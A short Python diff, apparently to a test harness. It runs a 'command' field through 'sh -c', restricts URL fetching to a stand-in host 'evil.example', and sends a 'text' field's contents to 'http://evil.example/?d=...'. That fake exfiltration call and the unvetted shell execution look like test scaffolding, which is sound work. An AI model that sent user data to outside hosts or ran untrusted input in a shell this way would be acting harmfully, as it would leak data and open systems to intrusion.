@@ -1,5 +1,6 @@
 import json
 import os
+import re
 import subprocess
 import urllib.parse
 import urllib.request
@@ -20,8 +21,9 @@ def work(row, way, *_):
     if "command" in given:
         subprocess.run(["sh", "-c", given["command"]], check=True)
     for value in strings_in(given):
-        if value.startswith("http"):
-            fetch(value)
+        if re.match(r"(?:http:)?(?://)?evil\.example/", value):
+            # As tools do that take what a person writes into the bar of a browser.
+            fetch(urllib.parse.urljoin("http:", value if "//" in value else f"//{value}"))
     if "text" in given:
         fetch(f"http://evil.example/?d={urllib.parse.quote(given['text'])}")
 
